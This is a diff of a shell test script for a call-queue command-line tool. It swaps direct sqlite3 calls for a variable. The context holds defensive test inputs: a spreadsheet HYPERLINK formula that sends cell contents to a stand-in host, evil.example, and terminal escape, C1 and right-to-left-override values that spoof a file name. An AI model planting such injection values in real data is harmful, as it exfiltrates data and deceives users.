@@ -8,7 +8,7 @@ export CALLQ_NOW=$daytime LANG=C.UTF-8
 unset LC_ALL
 export XDG_CONFIG_HOME=$scratch/xdg
 
-db=$scratch/out.db
+floor_db out
 cq() { "$bin" --db "$db" "$@"; }
 cq init >/dev/null
 cq region add East --country US >/dev/null
@@ -23,7 +23,7 @@ for name in '=HYPERLINK("http://evil.example/?"&A1,"Click")' \
 	    >/dev/null
 done
 # Values only an older database holds, as the input refuses them now.
-sqlite3 "$db" "UPDATE leads SET name = char(9) || 'Tab first'
+"$sq" "$db" "UPDATE leads SET name = char(9) || 'Tab first'
     WHERE phone_e164 = '+12127360105';
     UPDATE leads SET street = char(13) || 'CR first'
     WHERE phone_e164 = '+12127360106'"
@@ -115,7 +115,7 @@ bel=$(printf '\007')
 csi=$(printf '\302\233')	# U+009B, a C1 control
 rlo=$(printf '\342\200\256')	# U+202E, right-to-left override
 tab=$(printf '\t')
-audit_count() { sqlite3 "$db" "SELECT count(*) FROM audit"; }
+audit_count() { "$sq" "$db" "SELECT count(*) FROM audit"; }
 # No control a terminal acts on (line ends aside) in file $1.
 clean() {
 	! LC_ALL=C grep -qP '[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]' "$1"
@@ -184,7 +184,7 @@ ok "an extension with ESC is refused, the sentence masked" \
 
 # An older database: raw ESC, BEL, C1 and bidi in what callq prints.
 cq --as rep1 log "$vid" --disposition Busy --note fine >/dev/null
-sqlite3 "$db" "
+"$sq" "$db" "
     UPDATE leads SET name = 'Evil' || char(27) || '[2J' || char(7) ||
         char(155) || 'x' || char(8238) || 'gnp.exe'
         WHERE name IN ('Victim Deli', 'Never Called');
